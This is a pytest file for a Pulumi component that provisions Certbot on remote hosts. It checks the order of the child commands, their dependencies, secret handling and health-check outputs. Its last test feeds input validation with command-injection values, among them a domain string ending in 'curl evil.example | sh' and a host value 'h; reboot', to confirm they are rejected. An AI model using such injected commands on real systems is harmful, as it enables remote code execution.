"""CertbotHost under Pulumi mocks: children, order, dependencies, secrecy and outputs."""

from __future__ import annotations

import pulumi
import pytest
from pulumi.runtime import rpc
from pulumi_command import remote

from components.certbot import CertbotConfigError, CertbotHost
from components.certbot.scripts import as_remote_command, render_script
from components.certbot.spec import build_spec
from tests.support.mocks import install_mocks

CERT_STDOUT = ("certificate: done\ncert_name=dreamfactory\nexpires_at=2031-05-06T07:08:09Z\nserial=0ABC\n"
               "https_verified=true")
RENEWAL_STDOUT = "renewal_timer=snap.certbot.renew.timer\nrenewal: done (changed=0)"
HEALTH_TYPE = "pulumi-python:dynamic/certbot:HostHealthCheck"
# What the health provider reports: the host read now (a later expiry than the certificate step saw).
HEALTH_OUTPUTS = {"expires_at": "2031-08-01T00:00:00Z", "https_verified": True, "renewal_timer_active": False,
                  "problems": ["renewal timer snap.certbot.renew.timer is inactive (up re-runs the renewal step)"]}


def command_outputs(typ, name, inputs):
    if typ == HEALTH_TYPE:
        return HEALTH_OUTPUTS
    if typ != "command:remote:Command":
        return {}
    return {"stdout": CERT_STDOUT if name.endswith("-certificate") else RENEWAL_STDOUT, "stderr": ""}


@pytest.fixture
def run():
    return install_mocks(outputs=command_outputs)


def host(name="df-1", **overrides):
    args = dict(connection=remote.ConnectionArgs(host="203.0.113.10", user="root", private_key="PRIVATE-KEY-XYZ",
                                                 host_key="ssh-ed25519 AAAAC3Nza"),
                domains=["df.example.com", "www.df.example.com"], email="ops@example.com", agree_tos=True)
    args.update(overrides)
    return CertbotHost(name, **args)


@pulumi.runtime.test
def test_children_in_order_each_depending_on_the_previous(run):
    component = host()

    def check(_):
        commands = [r for r in run.mocks.registrations if r.typ == "command:remote:Command"]
        assert [r.name for r in commands] == ["df-1-firewall", "df-1-snapd", "df-1-certbot", "df-1-certificate",
                                             "df-1-renewal"]
        parent = run.mocks.named("df-1")
        assert parent.typ == "dreamfactory:certbot:CertbotHost"
        urns = {r.name: f"urn:pulumi:unit::dreamfactory-infra::dreamfactory:certbot:CertbotHost$command:remote:Command::{r.name}"
                for r in commands}
        for before, after in zip(commands, commands[1:]):
            assert urns[before.name] in after.dependencies, f"{after.name} does not depend on {before.name}"
        assert all(r.parent.endswith("::df-1") for r in commands)

    return pulumi.Output.all(component.expires_at, component.renewal_timer).apply(check)


@pulumi.runtime.test
def test_connection_is_secret_and_scripts_are_the_rendered_ones(run):
    component = host()

    def check(_):
        spec = build_spec(domains=["df.example.com", "www.df.example.com"], email="ops@example.com", agree_tos=True,
                          owner="df-1", host="203.0.113.10")
        for step in ("firewall", "snapd", "certbot", "certificate", "renewal"):
            inputs = run.mocks.named(f"df-1-{step}").inputs
            assert rpc.is_rpc_secret(inputs["connection"])
            assert rpc.unwrap_rpc_secret(inputs["connection"])["hostKey"] == "ssh-ed25519 AAAAC3Nza"
            assert inputs["create"] == as_remote_command(render_script(step, spec), sudo=False)
            assert "PRIVATE-KEY-XYZ" not in inputs["create"]
        assert "triggers" not in run.mocks.named("df-1-certificate").inputs
        assert run.mocks.named("df-1-renewal").inputs["triggers"] == ["0ABC"]  # re-verify after a new certificate

    return component.renewal_timer.apply(check)


@pulumi.runtime.test
def test_outputs_come_from_the_steps_and_the_health_check(run):
    component = host(cert_name="dreamfactory")

    def check(values):
        assert values[:5] == ["dreamfactory", "/etc/letsencrypt/live/dreamfactory/fullchain.pem",
                              "/etc/letsencrypt/live/dreamfactory/privkey.pem", "snap.certbot.renew.timer",
                              "2031-08-01T00:00:00Z"]
        assert values[5:8] == [True, False, True]
        assert 1600 < values[8] < 2000  # days from today to 2031-08-01, computed at this run
        assert not any("host_key" in warning for warning in run.warnings)
        assert any("renewal timer snap.certbot.renew.timer is inactive" in warning for warning in run.warnings)

    return pulumi.Output.all(component.cert_name, component.certificate_path, component.private_key_path,
                             component.renewal_timer, component.expires_at, component.https_verified,
                             component.renewal_timer_active, component.https_verified,
                             component.days_left).apply(check)


@pulumi.runtime.test
def test_the_health_check_follows_the_steps_with_their_scripts_and_a_secret_key(run):
    component = host(renew_before_days=21)

    def check(_):
        health = run.mocks.named("df-1-health")
        assert health.typ == HEALTH_TYPE and health.parent.endswith("::df-1")
        renewal_urn = "urn:pulumi:unit::dreamfactory-infra::dreamfactory:certbot:CertbotHost$command:remote:Command::df-1-renewal"
        assert renewal_urn in health.dependencies
        inputs = health.inputs
        assert rpc.is_rpc_secret(inputs["private_key"]) and rpc.unwrap_rpc_secret(inputs["private_key"]) == "PRIVATE-KEY-XYZ"
        assert inputs["host_key"] == "ssh-ed25519 AAAAC3Nza" and inputs["renew_before_days"] == 21
        assert inputs["domains"] == ["df.example.com", "www.df.example.com"]
        assert inputs["serve_https"] is True and inputs["firewall"] is True
        for step in ("firewall", "snapd", "certbot", "certificate", "renewal"):
            assert inputs["repairs"][step] == run.mocks.named(f"df-1-{step}").inputs["create"]
        assert "RENEW_BEFORE_DAYS=21" in inputs["repairs"]["renewal"]
        assert "CertbotHost step: health" in inputs["probe"] and "PRIVATE-KEY-XYZ" not in inputs["probe"]
        # The read-ahead: same connection (key secret) and probe, with no dependency (so it registers at once, long
        # before the health check, which waits for the steps), active only at preview (these mocks run an update).
        ahead = run.mocks.named("df-1-health-read-ahead")
        assert ahead.dependencies == [] and ahead.parent.endswith("::df-1")
        names = [r.name for r in run.mocks.registrations]
        assert names.index("df-1-health-read-ahead") < names.index("df-1-health")
        assert ahead.inputs["probe"] == inputs["probe"] and ahead.inputs["enabled"] is False
        assert rpc.is_rpc_secret(ahead.inputs["private_key"])

    return component.expires_at.apply(check)


@pulumi.runtime.test
def test_firewall_none_and_a_sudo_user(run):
    component = host(name="df-2", firewall="none",
                     connection=remote.ConnectionArgs(host="203.0.113.11", user="deploy", private_key="K"))

    def check(_):
        names = [r.name for r in run.mocks.registrations if r.typ == "command:remote:Command"]
        assert names == ["df-2-snapd", "df-2-certbot", "df-2-certificate", "df-2-renewal"]
        assert run.mocks.named("df-2-snapd").inputs["create"].startswith("sudo -n true")
        assert any("no connection.host_key" in warning for warning in run.warnings)

    return pulumi.Output.all(component.expires_at, component.renewal_timer).apply(check)


@pulumi.runtime.test
def test_a_connection_host_known_only_at_run_time_reaches_the_certificate_script(run):
    address = pulumi.Output.from_input("198.51.100.7")  # e.g. a VM's public address
    component = host(name="df-3", connection=remote.ConnectionArgs(host=address, user="root", private_key="K"))

    def check(_):
        assert "CONNECTION_HOST=198.51.100.7" in run.mocks.named("df-3-certificate").inputs["create"]

    return component.renewal_timer.apply(check)


def test_bad_input_registers_nothing(run):
    with pytest.raises(CertbotConfigError, match="'domains'"):
        host(domains=["df.example.com && curl evil.example | sh"])
    with pytest.raises(CertbotConfigError, match="'connection.host'"):
        host(connection=remote.ConnectionArgs(host="h; reboot", user="root"))
    with pytest.raises(CertbotConfigError, match="'connection.proxy': not supported yet by the health check"):
        host(connection=remote.ConnectionArgs(host="h", user="root", proxy=remote.ProxyConnectionArgs(host="bastion")))
    with pytest.raises(CertbotConfigError, match="'connection.user'"):
        host(connection=remote.ConnectionArgs(host="h", user=pulumi.Output.from_input("root")))
    assert run.mocks.registrations == []
